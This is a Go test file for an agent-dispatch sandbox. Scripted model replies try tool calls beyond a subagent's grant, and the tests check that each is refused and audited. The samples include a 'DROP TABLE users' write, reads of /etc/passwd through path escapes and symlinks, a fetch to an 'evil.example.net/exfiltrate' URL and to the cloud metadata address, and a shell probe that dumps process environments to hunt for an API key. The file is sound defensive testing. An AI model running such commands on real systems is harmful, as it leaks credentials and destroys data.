package dispatch_test

import (
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/agora-dev/agora/internal/dispatch"
	"github.com/agora-dev/agora/internal/grant"
	"github.com/agora-dev/agora/internal/lifecycle"
	"github.com/agora-dev/agora/internal/runtime/openairt/openaitest"
	"github.com/agora-dev/agora/internal/toolreg"
)

const testAPIKey = "sk-agora-test-7f3e9b1c5d2a4e6f8091a2b3c4d5e6f7"

// TestModel_GrantedToolLoop: the openai runtime in a real sandbox calls a granted tool through
// its view, the result goes back to the model, and the answer lands as outputs/final.md with
// the transcript stored beside the record. The model is reached through the gateway, with the
// key the gateway adds.
func TestModel_GrantedToolLoop(t *testing.T) {
	e := newModelEnv(t)
	e.capability("notes", "tools: [read_file, list_files]\noverlay: [\"notes/**\"]\n", map[string]string{"notes/hello.txt": "hello from the capability\n"})
	e.modelSubagent("reader", "openai", "notes")
	srv := e.model(testAPIKey,
		openaitest.CallTool("list_files", `{"path":"notes"}`),
		openaitest.Func(func(req openaitest.Request) openaitest.Reply {
			if got := lastToolResult(t, req); !strings.Contains(got, "hello.txt") {
				t.Errorf("list_files result %q does not list hello.txt", got)
			}
			return openaitest.Reply{ToolCalls: []openaitest.Call{{Name: "read_file", Arguments: `{"path":"notes/hello.txt"}`}}}
		}),
		openaitest.Func(func(req openaitest.Request) openaitest.Reply {
			got := lastToolResult(t, req)
			return openaitest.Reply{Content: "The note says: " + strings.TrimSpace(got)}
		}),
	)
	r := e.run(dispatch.Request{Subagent: "reader", Envs: []string{"model"}, Input: []byte(`{"prompt":"What does the note say?"}`)})
	wantFinished(t, r)

	reqs := srv.Accepted()
	if len(reqs) != 3 {
		t.Fatalf("the model got %d requests, want 3", len(reqs))
	}
	for i, req := range reqs {
		if got := req.Header.Get("Authorization"); got != "Bearer "+testAPIKey {
			t.Errorf("request %d reached the model with Authorization %q, want the gateway's key", i, got)
		}
	}
	if diff := cmp.Diff([]string{"list_files", "read_file"}, offered(reqs[0])); diff != "" {
		t.Errorf("tools offered to the model (-want +got):\n%s", diff)
	}
	if u := reqs[0].Body.Messages[1].Text(); u != "What does the note say?" {
		t.Errorf("first user message %q, want the input's prompt", u)
	}
	final := e.output(r, "final.md")
	if !strings.Contains(final, "hello from the capability") {
		t.Errorf("final.md = %q, want the model's answer built on the tool result", final)
	}
	// The loop ran in the worker: the answer is vouched for, and kept as the record's final
	// (what a review is read from), the same bytes as the output.
	if r.Result.Final == nil || e.blob(r.Result.Final) != final {
		t.Errorf("the record's final %+v, want the vouched answer %q", r.Result.Final, final)
	}
	if r.Result.Transcript == nil {
		t.Fatal("no transcript stored")
	}
	tr := e.blob(r.Result.Transcript)
	for _, want := range []string{`"type":"tool_call"`, `"type":"tool_result"`, `"type":"final"`, "hello from the capability"} {
		if !strings.Contains(tr, want) {
			t.Errorf("transcript lacks %s:\n%s", want, tr)
		}
	}
	if diff := cmp.Diff([]string{"list_files allowed granted", "read_file allowed granted"}, e.toolCalls(r)); diff != "" {
		t.Errorf("tool.call audit entries (-want +got):\n%s", diff)
	}
	gw := e.audited(r, "tool.gateway")
	routes := map[string]int{}
	for _, a := range gw {
		routes[fmt.Sprint(a.Details["route"], " ", a.Details["decision"])]++
	}
	if routes["model.chat_completions allowed"] != 3 || routes["audit.tool allowed"] != 2 {
		t.Errorf("tool.gateway entries by route: %v, want 3 model requests and 2 tool reports, allowed", routes)
	}
	if r.Grants == nil || !cmp.Equal(r.Grants.Tools, []string{"list_files", "read_file"}) {
		t.Errorf("record grants %+v, want the subagent's whole grant", r.Grants)
	}
}

// TestModel_ValidatorIncident is the seed's incident (the RBAC ADR): a validator whose
// capability grants only reading asks for write_file and run_command. Both are refused,
// audited as denials of its role, and the workspace is unchanged.
func TestModel_ValidatorIncident(t *testing.T) {
	e := newModelEnv(t)
	repo := gitRepo(t, map[string]string{"schema.sql": "CREATE TABLE users (id int);\n"})
	e.capability("read-only", "tools: [read_file, list_files, search_files]\n", nil)
	e.modelSubagent("validator", "openai", "read-only")
	srv := e.model(testAPIKey,
		openaitest.CallTools(
			openaitest.Call{Name: "write_file", Arguments: `{"path":"schema.sql","content":"DROP TABLE users;\n"}`},
			openaitest.Call{Name: "run_command", Arguments: `{"argv":["sh","-c","echo 'ALTER TABLE users ADD x int;' >> schema.sql"]}`},
		),
		openaitest.Func(func(req openaitest.Request) openaitest.Reply {
			for _, res := range toolResults(req) {
				if !strings.Contains(res, "is not permitted for role") {
					t.Errorf("tool result %q, want a refusal", res)
				}
			}
			return openaitest.Reply{Content: "I may not change the schema."}
		}),
	)
	r := e.run(dispatch.Request{Subagent: "validator", Envs: []string{"model"}, Repo: repo, Input: []byte(`{"prompt":"validate and fix schema.sql"}`)})
	wantFinished(t, r)
	if got := offered(srv.Accepted()[0]); !cmp.Equal(got, []string{"list_files", "read_file", "search_files"}) {
		t.Errorf("tools offered %v, want the read tools only", got)
	}
	want := []string{"write_file denied " + toolreg.ReasonNotGranted, "run_command denied " + toolreg.ReasonNotGranted}
	if diff := cmp.Diff(want, e.toolCalls(r)); diff != "" {
		t.Errorf("tool.call audit entries (-want +got):\n%s", diff)
	}
	for _, a := range e.audited(r, "tool.call") {
		if !strings.HasPrefix(a.Actor, "dispatch/"+r.ID+" validator@sha256:") {
			t.Errorf("denial attributed to %q, want the validator's role", a.Actor)
		}
	}
	if r.Result.Patch == nil || r.Result.Patch.Size != 0 {
		t.Errorf("patch %+v, want an empty patch: the workspace is unchanged", r.Result.Patch)
	}
}

// TestModel_PathEscapes: "../../etc/passwd" and a symlink in the checkout that leads out of
// the workspace are refused by the file tools, audited as denials.
func TestModel_PathEscapes(t *testing.T) {
	e := newModelEnv(t)
	repo := gitRepo(t, map[string]string{"README.md": "# repo\n"})
	for name, target := range map[string]string{"passwd": "/etc/passwd", "tmpdir": "/tmp"} {
		if err := os.Symlink(target, filepath.Join(repo, name)); err != nil {
			t.Fatal(err)
		}
	}
	gitCommitAll(t, repo)
	e.capability("files", "tools: [read_file, write_file]\n", nil)
	e.modelSubagent("escaper", "openai", "files")
	srv := e.model(testAPIKey,
		openaitest.CallTools(
			openaitest.Call{Name: "read_file", Arguments: `{"path":"../../etc/passwd"}`},
			openaitest.Call{Name: "read_file", Arguments: `{"path":"passwd"}`},
			openaitest.Call{Name: "write_file", Arguments: `{"path":"tmpdir/planted","content":"x"}`},
			openaitest.Call{Name: "read_file", Arguments: `{"path":"/etc/hostname"}`},
		),
		openaitest.Say("done"),
	)
	r := e.run(dispatch.Request{Subagent: "escaper", Envs: []string{"model"}, Repo: repo})
	wantFinished(t, r)
	results := toolResults(srv.Accepted()[1])
	if len(results) != 4 {
		t.Fatalf("got %d tool results, want 4", len(results))
	}
	for i, res := range results {
		if !strings.Contains(res, "refused") || strings.Contains(res, "root:x:0:0") {
			t.Errorf("tool result %d = %q, want a refusal and no file content", i, res)
		}
	}
	for _, c := range e.toolCalls(r) {
		if !strings.HasSuffix(c, " denied path outside the workspace") {
			t.Errorf("tool.call %q, want a denial: path outside the workspace", c)
		}
	}
	if n := len(e.toolCalls(r)); n != 4 {
		t.Errorf("got %d tool.call entries, want 4", n)
	}
	if r.Result.Patch == nil || r.Result.Patch.Size != 0 {
		t.Errorf("patch %+v, want none: nothing was written", r.Result.Patch)
	}
}

// TestModel_FetchRefused: http_fetch reaches a granted host through the gateway; a host
// outside the grant is refused in the sandbox, and a granted name on a private address the
// egress policy does not allow is refused by the gateway's dialer. Both are audited.
func TestModel_FetchRefused(t *testing.T) {
	e := newModelEnv(t)
	docs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		fmt.Fprint(w, "the docs say 42")
	}))
	t.Cleanup(docs.Close)
	e.capability("web", "tools: [http_fetch]\negress: [127.0.0.1, 169.254.169.254]\n", nil)
	e.modelSubagent("fetcher", "openai", "web")
	srv := e.model(testAPIKey,
		openaitest.CallTools(
			openaitest.Call{Name: "http_fetch", Arguments: `{"url":"` + docs.URL + `/answer"}`},
			openaitest.Call{Name: "http_fetch", Arguments: `{"url":"https://evil.example.net/exfiltrate"}`},
			openaitest.Call{Name: "http_fetch", Arguments: `{"url":"http://169.254.169.254/latest/meta-data/"}`},
		),
		openaitest.Say("done"),
	)
	r := e.run(dispatch.Request{Subagent: "fetcher", Envs: []string{"model"}})
	wantFinished(t, r)
	results := toolResults(srv.Accepted()[1])
	if len(results) != 3 {
		t.Fatalf("got %d tool results, want 3", len(results))
	}
	if !strings.Contains(results[0], "status: 200") || !strings.Contains(results[0], "the docs say 42") {
		t.Errorf("granted fetch: %q, want the document", results[0])
	}
	if !strings.Contains(results[1], "host not granted") {
		t.Errorf("ungranted host: %q, want a refusal", results[1])
	}
	if !strings.Contains(results[2], "refused") || !strings.Contains(results[2], "169.254.169.254") {
		t.Errorf("metadata address: %q, want the gateway's refusal", results[2])
	}
	want := []string{"http_fetch allowed granted", "http_fetch denied host not granted", "http_fetch denied refused by the gateway"}
	if diff := cmp.Diff(want, e.toolCalls(r)); diff != "" {
		t.Errorf("tool.call audit entries (-want +got):\n%s", diff)
	}
	var fetches []string
	for _, a := range e.audited(r, "tool.gateway") {
		if a.Details["route"] == "fetch" {
			fetches = append(fetches, fmt.Sprint(a.Details["host"], " ", a.Details["decision"]))
		}
	}
	if diff := cmp.Diff([]string{"127.0.0.1 allowed", "169.254.169.254 denied"}, fetches); diff != "" {
		t.Errorf("tool.gateway fetch entries (-want +got):\n%s", diff)
	}
}

// TestModel_Budgets: a model that never stops ends by budget: the turn budget fails the
// dispatch (worker-failed, naming it), the wall clock ends it as a timeout.
func TestModel_Budgets(t *testing.T) {
	e := newModelEnv(t)
	e.capability("lister", "tools: [list_files]\n", nil)
	e.modelSubagent("looper", "openai", "lister")

	t.Run("Turns", func(t *testing.T) {
		srv := e.model(testAPIKey, openaitest.Loop())
		r := e.run(dispatch.Request{Subagent: "looper", Envs: []string{"model"}, Timeout: 2 * time.Minute})
		if r.State != lifecycle.DispatchFailed || r.Reason != lifecycle.ReasonWorkerFailed || !strings.Contains(r.Detail, "max_turns") {
			t.Fatalf("got %s %s: %s, want failed worker-failed naming max_turns", r.State, r.Reason, r.Detail)
		}
		if n := len(srv.Accepted()); n != 50 {
			t.Errorf("the model got %d requests, want the 50-turn budget", n)
		}
		if !strings.Contains(e.blob(r.Result.Transcript), `"type":"stopped"`) {
			t.Error("the transcript does not record the stop")
		}
	})
	t.Run("WallTime", func(t *testing.T) {
		slow := openaitest.Repeat(openaitest.Func(func(openaitest.Request) openaitest.Reply {
			return openaitest.Reply{Delay: 2 * time.Second, ToolCalls: []openaitest.Call{{Name: "list_files", Arguments: "{}"}}}
		}))
		e.model(testAPIKey, slow)
		start := time.Now()
		r := e.run(dispatch.Request{Subagent: "looper", Envs: []string{"model"}, Timeout: 10 * time.Second})
		if r.State != lifecycle.DispatchFailed || r.Reason != lifecycle.ReasonTimeout || !strings.Contains(r.Detail, "wall-time budget") {
			t.Fatalf("got %s %s: %s, want failed timeout at the wall-time budget", r.State, r.Reason, r.Detail)
		}
		if d := time.Since(start); d > 10*time.Second {
			t.Errorf("took %s, want the loop stopped by the worker inside the dispatch's 10s", d)
		}
	})
}

// TestModel_APIKeyNeverInSandbox is the key test: the model is reached (the scripted server
// requires the key) while the agent, through a granted command, dumps its environment,
// /proc/self/environ and every process's environment, and searches the sandbox's files for
// the key. The key is in none of it, in nothing the model received, and in nothing stored.
func TestModel_APIKeyNeverInSandbox(t *testing.T) {
	e := newModelEnv(t)
	const otherSecret = "other-bundle-secret-5a9c1e77"
	e.capability("shell", "tools: [run_command]\ncommands: [\"sh -c *\"]\n", nil)
	e.modelSubagent("prober", "openai", "shell")
	// The search assembles the key at run time, so neither the model's request nor the
	// transcript holds it whole.
	probe := fmt.Sprintf(`echo ENV-BEGIN; env; echo ENV-END
echo PROC-SELF; tr '\0' '\n' < /proc/self/environ
echo PROC-ALL; for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null; done | sort -u
echo FILES; ls -la /agora /agora/gateway /agora/bundle 2>&1
cat /agora/bundle/manifest.json
k1=%s; k2=%s
if grep -rlaF "$k1$k2" /agora /tmp /proc/[0-9]*/environ 2>/dev/null; then echo KEY-FOUND; else echo KEY-NOT-FOUND; fi
if grep -rlaF OPENAI_API_KEY /agora/bundle /agora/workspace /tmp /proc/[0-9]*/environ 2>/dev/null; then echo NAME-FOUND; else echo NAME-NOT-FOUND; fi`,
		testAPIKey[:10], testAPIKey[10:])
	var result string
	srv := openaitest.New(t,
		openaitest.CallTool("run_command", mustJSON(t, map[string]any{"argv": []string{"sh", "-c", probe}})),
		openaitest.Func(func(req openaitest.Request) openaitest.Reply {
			result = lastToolResult(t, req)
			return openaitest.Reply{Content: "probed"}
		}),
	)
	srv.RequireAPIKey(testAPIKey)
	e.envBundle("model", map[string]string{"OPENAI_BASE_URL": srv.URL()},
		map[string]string{"OPENAI_API_KEY": testAPIKey, "OTHER_TOKEN": otherSecret})
	r := e.run(dispatch.Request{Subagent: "prober", Envs: []string{"model"}})
	wantFinished(t, r)

	// The loop reached the model, with the key, on every turn.
	if n := len(srv.Accepted()); n != 2 {
		t.Fatalf("the model answered %d requests, want 2", n)
	}
	for i, req := range srv.Requests() {
		if req.Rejected != "" || req.Header.Get("Authorization") != "Bearer "+testAPIKey {
			t.Errorf("request %d: rejected %q, Authorization %q; want accepted with the key", i, req.Rejected, req.Header.Get("Authorization"))
		}
		if strings.Contains(string(req.Raw), testAPIKey) {
			t.Errorf("request %d's body holds the key", i)
		}
	}
	// The probe ran, saw the environment (another secret is there, as the exec contract
	// says), and found no trace of the key or its name.
	for _, want := range []string{"ENV-BEGIN", "AGORA_DISPATCH_ID=" + r.ID, "OTHER_TOKEN=" + otherSecret, "PROC-ALL", "gateway.sock", "KEY-NOT-FOUND", "NAME-NOT-FOUND", "exit code: 0"} {
		if !strings.Contains(result, want) {
			t.Errorf("the probe's output lacks %q:\n%s", want, result)
		}
	}
	for _, bad := range []string{testAPIKey, "OPENAI_API_KEY", "OPENAI_BASE_URL"} {
		if strings.Contains(result, bad) {
			t.Errorf("the probe's output holds %q:\n%s", bad, result)
		}
	}
	// Nothing stored holds the key; the transcript is redacted of the other secret too.
	stored := map[string]string{"stdout": e.blob(r.Result.Stdout), "stderr": e.blob(r.Result.Stderr), "transcript": e.blob(r.Result.Transcript)}
	for name, s := range stored {
		if strings.Contains(s, testAPIKey) {
			t.Errorf("stored %s holds the key", name)
		}
	}
	if strings.Contains(stored["transcript"], otherSecret) || !strings.Contains(stored["transcript"], "KEY-NOT-FOUND") {
		t.Errorf("transcript: want the probe's output with the bundle's secret masked:\n%.2000s", stored["transcript"])
	}
	for _, f := range []string{"agora.db", "agora.db-wal"} {
		b, err := os.ReadFile(filepath.Join(e.home.Dir, f))
		if err != nil && !errors.Is(err, os.ErrNotExist) {
			t.Fatal(err)
		}
		if strings.Contains(string(b), testAPIKey) {
			t.Errorf("%s holds the key in the clear", f)
		}
	}
}

// TestModel_Narrowing: a dispatch narrows the subagent's grant and the view follows it; a
// dispatch that asks for more is refused before anything is recorded; a resumed dispatch
// keeps its parent's narrowed grant.
func TestModel_Narrowing(t *testing.T) {
	e := newModelEnv(t)
	e.capability("editor", "tools: [read_file, write_file, list_files, ask_human]\ncommands: [\"git diff *\", \"git status\"]\n", nil)
	e.modelSubagent("editor", "openai", "editor")

	t.Run("WidenRefused", func(t *testing.T) {
		for _, g := range []grant.Set{
			{Tools: []string{"run_command"}},
			{Commands: []string{"sh -c *"}},
			{Egress: grant.MustEgressRules("example.com")},
		} {
			before, _ := e.d.Records.List(t.Context(), dispatch.ListFilter{})
			_, err := e.d.Accept(t.Context(), dispatch.Request{Subagent: "editor", Actor: "test", Grants: &g})
			var re *dispatch.RequestError
			if !errors.As(err, &re) || !strings.Contains(err.Error(), "not covered") {
				t.Errorf("grants %+v: got %v, want a request error naming the item", g, err)
			}
			after, _ := e.d.Records.List(t.Context(), dispatch.ListFilter{})
			if len(after) != len(before) {
				t.Errorf("grants %+v: a refused request was recorded", g)
			}
		}
	})

	t.Run("NarrowApplied", func(t *testing.T) {
		srv := e.model(testAPIKey,
			openaitest.CallTool("write_file", `{"path":"x.txt","content":"x"}`),
			openaitest.Func(func(req openaitest.Request) openaitest.Reply {
				if got := lastToolResult(t, req); !strings.Contains(got, "not permitted") {
					t.Errorf("write_file outside the narrowed grant: %q, want a refusal", got)
				}
				return openaitest.Reply{ToolCalls: []openaitest.Call{{Name: "ask_human", Arguments: `{"question":"Which file should I read?"}`}}}
			}),
		)
		narrow := grant.Set{Tools: []string{"read_file", "ask_human"}, Commands: []string{"git diff  *"}}
		r := e.run(dispatch.Request{Subagent: "editor", Envs: []string{"model"}, Grants: &narrow})
		if r.State != lifecycle.DispatchNeedsInput || r.Result.NeedsInput == nil || r.Result.NeedsInput.Question != "Which file should I read?" {
			t.Fatalf("got %s %s: %s (%+v), want needs_input with the model's question", r.State, r.Reason, r.Detail, r.Result)
		}
		if got := offered(srv.Accepted()[0]); !cmp.Equal(got, []string{"ask_human", "read_file"}) {
			t.Errorf("tools offered %v, want the narrowed set", got)
		}
		want := grant.Set{Tools: []string{"ask_human", "read_file"}, Commands: []string{"git diff *"}, Egress: grant.MustEgressRules()}
		if diff := cmp.Diff(&want, r.Grants); diff != "" {
			t.Errorf("recorded grant (-want +got):\n%s", diff)
		}
		acc := e.audited(r, "dispatch.accepted")
		if len(acc) != 1 || !strings.Contains(mustJSON(t, acc[0].Details["grants"]), `"tools":["ask_human","read_file"]`) {
			t.Errorf("accepted audit entry %+v, want the effective grant", acc)
		}
		if diff := cmp.Diff([]string{"write_file denied " + toolreg.ReasonNotGranted, "ask_human allowed " + toolreg.ReasonNeedsInput}, e.toolCalls(r)); diff != "" {
			t.Errorf("tool.call audit entries (-want +got):\n%s", diff)
		}

		// Resuming keeps the parent's narrowed grant; narrowing further still works.
		req, err := e.d.ResumeRequest(t.Context(), r, "README.md", dispatch.Answerer{Actor: "test", Via: dispatch.ViaCLI})
		if err != nil {
			t.Fatal(err)
		}
		child, err := e.d.Accept(t.Context(), req)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(&want, child.Grants); diff != "" {
			t.Errorf("resumed dispatch's grant (-want +got):\n%s", diff)
		}
		req.Grants = &grant.Set{Tools: []string{"write_file"}}
		if _, err := e.d.Accept(t.Context(), req); err == nil || !strings.Contains(err.Error(), `tool "write_file" is not covered`) {
			t.Errorf("resume asking for write_file: got %v, want it refused", err)
		}
	})
}
